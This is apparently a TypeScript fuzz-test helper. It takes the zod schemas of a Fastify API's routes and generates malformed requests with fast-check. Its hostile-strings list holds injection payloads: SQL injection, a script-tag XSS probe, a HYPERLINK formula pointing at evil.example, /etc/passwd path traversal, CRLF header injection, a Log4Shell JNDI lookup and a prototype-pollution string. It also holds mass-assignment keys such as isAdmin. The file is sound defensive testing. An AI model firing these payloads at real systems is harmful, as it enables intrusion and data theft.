import fc from 'fast-check';
import type { FastifyInstance, FastifySchema } from 'fastify';
import { z } from 'zod';

// Bad requests for every API route, derived from the route's own zod schemas (kept by the route catalog), so a
// route added later is fuzzed without touching the tests. Used by fuzz.test.ts.

export interface ApiRoute {
  method: string;
  url: string;
  schema: { body?: z.ZodType; querystring?: z.ZodType; params?: z.ZodType };
  /** The route documents a body (a zod body schema): text/plain and odd JSON values reach its validator only. */
  hasBody: boolean;
}

/** Every route under /api as registered (HEAD copies of GET routes left out: same handler, same checks). */
export function apiRoutes(app: FastifyInstance): ApiRoute[] {
  return app.routeCatalog.flatMap((route) => {
    const methods = Array.isArray(route.method) ? route.method : [route.method];
    const schema = (route.schema ?? {}) as FastifySchema & Record<string, unknown>;
    const zodOf = (key: string) => (isZod(schema[key]) ? (schema[key] as z.ZodType) : undefined);
    return methods
      .filter((method) => method !== 'HEAD' && route.url.startsWith('/api/'))
      .map((method) => ({
        method,
        url: route.url,
        schema: { body: zodOf('body'), querystring: zodOf('querystring'), params: zodOf('params') },
        hasBody: zodOf('body') !== undefined,
      }));
  });
}

function isZod(value: unknown): boolean {
  return typeof value === 'object' && value !== null && typeof (value as z.ZodType).safeParse === 'function';
}

// ---------------------------------------------------------------------------------------------------------
// JSON Schema view of a zod schema: enough to know the shape (types, bounds, required keys) to break it.

export interface JsonSchema {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  enum?: unknown[];
  const?: unknown;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  minLength?: number;
  maxLength?: number;
  minItems?: number;
  maxItems?: number;
}

export function jsonSchemaOf(schema: z.ZodType): JsonSchema {
  return z.toJSONSchema(schema, { io: 'input', unrepresentable: 'any' }) as JsonSchema;
}

export function typeOf(schema: JsonSchema): string | undefined {
  if (schema.const !== undefined) return typeof schema.const;
  if (schema.enum) return 'enum';
  const options = schema.anyOf ?? schema.oneOf;
  if (options) return typeOf(options.find((option) => option.type !== 'null') ?? options[0]!);
  return Array.isArray(schema.type) ? schema.type.find((type) => type !== 'null') : schema.type;
}

/** A plain, probably valid value of the schema: the starting point that one mutation then breaks. */
export function plainValue(schema: JsonSchema, depth = 0): unknown {
  if (schema.const !== undefined) return schema.const;
  if (schema.enum) return schema.enum[0];
  const options = schema.anyOf ?? schema.oneOf;
  if (options) return plainValue(options.find((option) => option.type !== 'null') ?? options[0]!, depth);
  const low = Math.max(schema.minimum ?? 1, (schema.exclusiveMinimum ?? 0) + 1);
  switch (typeOf(schema)) {
    case 'string':
      return 'a'.repeat(Math.max(1, schema.minLength ?? 1));
    case 'integer':
    case 'number':
      return Math.min(low, schema.maximum ?? low);
    case 'boolean':
      return false;
    case 'array':
      return depth > 4 || !schema.items
        ? []
        : Array.from({ length: schema.minItems ?? 0 }, () => plainValue(schema.items!, depth + 1));
    case 'object':
      return depth > 4
        ? {}
        : Object.fromEntries(
            Object.entries(schema.properties ?? {}).map(([key, value]) => [
              key,
              plainValue(value, depth + 1),
            ]),
          );
    default:
      return null;
  }
}

// ---------------------------------------------------------------------------------------------------------
// Hostile values.

export const ONE_MB = 'x'.repeat(1024 * 1024);

/** Strings that have broken real systems: control characters, bidi overrides, odd Unicode, injections. */
export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '   \t\n ',
  '\u0000',
  'a\u0000b',
  'नमस्ते 🙏🪔🎉',
  '👨‍👩‍👧‍👦'.repeat(20),
  '\u202Egnp.exe\u202C',
  'مرحبا بالعالم',
  '\u200B\u200C\u200D\uFEFF',
  'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇',
  '\uD800',
  '\uDFFF\uD800',
  "' OR '1'='1' --",
  'Robert"); DROP TABLE tickets;--',
  '<script>alert(1)</script>',
  '=HYPERLINK("http://evil.example")',
  '../../../../etc/passwd',
  '%00%0d%0a',
  '\r\nSet-Cookie: pwned=1',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the Log4Shell string itself, sent as data.
  '${jndi:ldap://example.invalid/a}',
  '{{constructor.constructor("return process")()}}',
  '__proto__',
  'constructor',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  'é'.repeat(300),
  '𝕏'.repeat(200),
  'x'.repeat(4096),
];

export const HOSTILE_NUMBERS: readonly number[] = [
  -1,
  0,
  -0,
  0.5,
  1.5,
  -2.5,
  1e-9,
  21,
  101,
  1e6,
  2 ** 31,
  2 ** 53 + 2,
  1e21,
  1e308,
  -1e308,
  Number.MIN_VALUE,
];

const hostileString = fc.oneof(
  { arbitrary: fc.constantFrom(...HOSTILE_STRINGS), weight: 6 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 2 },
  { arbitrary: fc.constant(ONE_MB), weight: 1 },
);
export const hostileNumber = fc.oneof(
  { arbitrary: fc.constantFrom(...HOSTILE_NUMBERS), weight: 4 },
  { arbitrary: fc.double({ noNaN: true, noDefaultInfinity: true }), weight: 1 },
  { arbitrary: fc.integer(), weight: 1 },
);
export const anyJson = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  hostileNumber,
  fc.constantFrom(...HOSTILE_STRINGS),
  fc.constant([]),
  fc.constant({}),
  fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 }),
);

/** A value for one field: the plain one, a same-type hostile one, or one of the wrong type. */
function fieldValue(schema: JsonSchema, depth: number): fc.Arbitrary<unknown> {
  const type = typeOf(schema);
  const sameType: fc.Arbitrary<unknown>[] = [];
  if (type === 'string' || type === 'enum') sameType.push(hostileString);
  if (type === 'integer' || type === 'number') sameType.push(hostileNumber);
  if (type === 'array' && schema.items) {
    sameType.push(fc.array(fieldValue(schema.items, depth + 1), { maxLength: 3 }));
    const tooMany = (schema.maxItems ?? 0) + 1;
    if (schema.maxItems !== undefined && tooMany <= 2000)
      sameType.push(fc.constant(Array.from({ length: tooMany }, () => plainValue(schema.items!, depth + 1))));
  }
  if (type === 'object' && depth < 3) sameType.push(objectValue(schema, depth + 1));
  return fc.oneof(
    { arbitrary: fc.constant(plainValue(schema, depth)), weight: 2 },
    ...sameType.map((arbitrary) => ({ arbitrary, weight: 4 })),
    { arbitrary: anyJson, weight: 3 },
  );
}

const MISSING = Symbol('missing');

/** An object of the schema's keys, each possibly broken or missing, maybe with extra keys. */
export function objectValue(schema: JsonSchema, depth = 0): fc.Arbitrary<Record<string, unknown>> {
  const properties = schema.properties ?? {};
  const fields = Object.fromEntries(
    Object.entries(properties).map(([key, value]) => [
      key,
      fc.oneof(
        { arbitrary: fc.constant<unknown>(MISSING), weight: 1 },
        { arbitrary: fieldValue(value, depth), weight: 4 },
      ),
    ]),
  );
  const extras = fc.oneof(
    { arbitrary: fc.constant({}), weight: 3 },
    {
      arbitrary: fc.dictionary(
        fc.constantFrom('role', 'isAdmin', 'user_id', 'userId', 'status', 'id', 'price', 'amount', 'admin'),
        anyJson,
        { maxKeys: 3 },
      ),
      weight: 1,
    },
  );
  return fc.tuple(fc.record(fields), extras).map(([record, extra]) => {
    const out: Record<string, unknown> = { ...extra };
    for (const [key, value] of Object.entries(record)) if (value !== MISSING) out[key] = value;
    return out;
  });
}
